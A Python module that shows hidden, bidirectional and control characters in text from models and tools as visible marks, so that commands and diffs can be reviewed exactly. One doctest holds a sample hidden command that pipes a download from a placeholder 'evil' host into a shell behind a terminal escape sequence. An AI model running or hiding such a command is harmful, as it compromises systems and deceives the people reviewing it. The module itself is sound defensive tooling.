"""Text from outside, made visible: every character that hides, reorders or moves text is shown as a mark.

Models, tools, servers and projects write this text. Nothing of it is deleted, so no part of it can vanish. A C0
control character becomes its name, such as `⟨ESC⟩`. Any other hidden character becomes its code point, such as
`⟨U+202E⟩`. Escape sequences are not taken as a whole: their text stays readable after the `⟨ESC⟩`. The marks are plain
letters in brackets because many fonts, such as those of phones, have no pictures of control characters.

There are two forms, each for lines and for one line:

- `revealed` and `revealed_line` are exact. They are for all that a person agrees to: commands, diffs, names, rules.
  Unusual spaces and private-use characters are marked too, and so is text that looks like a mark. Of the ways to write
  one letter, as `é` or as `e` with an accent, only the shortest (NFC) stays. Different texts never look the same, so
  apply it once, to the text as it came.
- `safe_lines` and `safe_line` are for text to read: replies, results, notes. Joiners and variation selectors stay where
  emoji and scripts need them, CR LF is a line break, and applying it twice changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

NEWLINE = "⏎"
"""Stands for a line break in one line."""
_HIDING = (
    *((0x00, 0x08), (0x0B, 0x1F), (0x7F, 0x9F)),  # control characters; tabs and line breaks stay
    *((0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C)),  # soft hyphen, grapheme joiner, Arabic letter mark
    *((0x115F, 0x1160), (0x3164, 0x3164), (0xFFA0, 0xFFA0)),  # Hangul fillers
    *((0x17B4, 0x17B5), (0x180B, 0x180F)),  # Khmer inherent vowels, Mongolian selectors
    *((0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F)),  # zero width, separators, direction, invisible operators
    *((0x2800, 0x2800), (0x1D159, 0x1D159)),  # an empty Braille pattern and an empty note head
    *((0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFF0, 0xFFFB)),  # variation selectors, byte order mark, annotations
    *((0x13430, 0x1345F), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A)),  # hieroglyph, shorthand and music format
    *((0xD800, 0xDFFF), (0xFDD0, 0xFDEF), (0xE0000, 0xE0FFF)),  # lone surrogates, noncharacters, tags and selectors
    *((plane + 0xFFFE, plane + 0xFFFF) for plane in range(0, 0x110000, 0x10000)),  # noncharacters
)
"""The characters that no form shows as they are: first and last of each range."""
_UNUSUAL = (
    *((0xA0, 0xA0), (0x1680, 0x1680), (0x2000, 0x200A), (0x202F, 0x202F), (0x205F, 0x205F), (0x3000, 0x3000)),  # spaces
    *((0xE000, 0xF8FF), (0xF0000, 0x10FFFF)),  # private use: every font shows something else, or nothing
    (ord(NEWLINE), ord(NEWLINE)),
)
"""Characters that only the exact form marks."""
_NAMES = (
    *("NUL", "SOH", "STX", "ETX", "EOT", "ENQ", "ACK", "BEL", "BS", "HT", "LF", "VT", "FF", "CR", "SO", "SI", "DLE"),
    *("DC1", "DC2", "DC3", "DC4", "NAK", "SYN", "ETB", "CAN", "EM", "SUB", "ESC", "FS", "GS", "RS", "US"),
)
"""The C0 control characters."""


def _set_of(ranges: Iterable[tuple[int, int]]) -> str:
    return "".join(f"{re.escape(chr(first))}-{re.escape(chr(last))}" for first, last in ranges)


HIDDEN = re.compile(f"[{_set_of(_HIDING)}]")
"""One character that hides, reorders or moves text."""
_EXACT = re.compile(f"[{_set_of((*_HIDING, *_UNUSUAL))}]|⟨(?=(?:U\\+[0-9A-F]+|DEL|{'|'.join(_NAMES)})⟩)")
"""What the exact form marks: also a bracket that would begin a mark."""
_NOT_ASCII = re.compile(r"[\x00-\x7f]?[^\x00-\x7f]+")
"""Characters that normalization may change, with the one before them: it changes no others."""
_JOINING_HANGUL = re.compile("[\u1161-\u11ff]")
_COLOURS = re.compile(r"\x1b\[[0-9;:]*m")
_JOINERS = "\u200c\u200d"
_SELECTOR = re.compile("[\ufe00-\ufe0f\U000e0100-\U000e01ef]")
_FIRST_JOINED = "\u00a9"
"""Joiners and selectors have no use next to a character before this one, keycaps apart."""


def revealed(text: str) -> str:
    """Return the text with a mark for each character that is not plainly visible. Tabs and line breaks stay.

    >>> revealed("echo hi \\x1b]; curl evil | sh ;\\x07")
    'echo hi ⟨ESC⟩]; curl evil | sh ;⟨BEL⟩'
    >>> revealed("a\\u202eb ⟨U+202E⟩")
    'a⟨U+202E⟩b ⟨U+27E8⟩U+202E⟩'
    >>> revealed("caf\\u00e9 cafe\\u0301")
    'café cafe⟨U+0301⟩'
    """
    if _is_plain(text):
        return text
    marked = set(_recomposed(text))
    if not marked:
        return _EXACT.sub(lambda found: _mark(found[0]), text)
    marked.update(found.start() for found in _EXACT.finditer(text))
    return "".join(_mark(character) if at in marked else character for at, character in enumerate(text))


def revealed_line(text: str) -> str:
    """Return the text as `revealed` does, in one line.

    >>> revealed_line("a\\nb ⏎")
    'a⏎b ⟨U+23CE⟩'
    """
    return revealed(text).replace("\n", NEWLINE)


def safe_lines(text: str) -> str:
    """Return text to read: with a mark for each hidden character, except where emoji and scripts need it.

    >>> safe_lines("\\x1b[31mred\\x1b[0m a\\u202eb 👩\\u200d🚀")
    '⟨ESC⟩[31mred⟨ESC⟩[0m a⟨U+202E⟩b 👩\\u200d🚀'
    """
    return text if _is_plain(text) else HIDDEN.sub(_unless_needed, text.replace("\r\n", "\n"))


def safe_line(text: str) -> str:
    """Return the text as `safe_lines` does, in one line."""
    return safe_lines(text).replace("\n", NEWLINE)


def one_line(text: str, limit: int) -> str:
    """Return the words of the text in one line to read, cut at `limit` characters.

    >>> one_line("a\\nb\\tc", 9), one_line("abcdefghij", 6)
    ('a b c', 'abcde…')
    """
    return _cut(" ".join(safe_lines(text[: 4 * limit]).split()), limit)


def plain_text(text: str, limit: int) -> str:
    """Return lines to read, cut at `limit` characters."""
    return _cut(safe_lines(text[: 4 * limit]), limit)


def without_colours(text: str) -> str:
    """Return the output of a command without its colours: sequences that show no text. Not for what a person approves.

    >>> without_colours("\\x1b[01;34mdocs\\x1b[0m")
    'docs'
    """
    return _COLOURS.sub("", text) if "\x1b" in text else text


def _recomposed(text: str) -> Iterator[int]:
    """Yield where characters are that normalization (NFC) joins, moves or replaces: another text may look the same."""
    import unicodedata

    if unicodedata.is_normalized("NFC", text):
        return
    for run in _NOT_ASCII.finditer(text):
        if not unicodedata.is_normalized("NFC", run[0]):
            for at, character in enumerate(run[0], run.start()):
                is_mark = unicodedata.category(character)[0] == "M" or _JOINING_HANGUL.match(character)
                if is_mark or not unicodedata.is_normalized("NFC", character):
                    yield at


def _is_plain(text: str) -> bool:
    return text.isascii() and text.isprintable()  # most short texts are


def _mark(character: str) -> str:
    code = ord(character)
    if code < 0x20:
        return f"⟨{_NAMES[code]}⟩"
    return "⟨DEL⟩" if code == 0x7F else f"⟨U+{code:04X}⟩"


def _unless_needed(found: re.Match[str]) -> str:
    character, text, at = found[0], found.string, found.start()
    if character < _JOINERS[0]:  # most are control characters
        return _mark(character)
    before, after = text[at - 1 : at], text[at + 1 : at + 2]
    if character in _JOINERS:
        if _SELECTOR.match(before):  # an emoji with its selector
            before = text[at - 2 : at - 1]
        return character if _can_join(before) and _can_join(after) else _mark(character)
    if _SELECTOR.match(character) and (_can_join(before) or after == "\u20e3"):
        return character
    return _mark(character)


def _can_join(character: str) -> bool:
    return character >= _FIRST_JOINED and not HIDDEN.match(character)


def _cut(text: str, limit: int) -> str:
    return text if len(text) <= limit else f"{text[: limit - 1].rstrip()}…"
